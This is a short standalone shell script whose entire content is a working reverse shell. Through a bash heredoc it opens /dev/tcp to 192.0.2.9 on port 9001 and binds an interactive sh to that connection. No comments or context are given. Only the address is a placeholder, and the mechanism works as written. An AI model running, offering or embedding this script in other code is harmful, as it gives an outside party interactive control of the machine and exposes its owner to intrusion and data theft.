#!/bin/sh
bash <<"END"
exec 3<>/dev/tcp/192.0.2.9/9001
sh <&3 >&3 2>&3
END
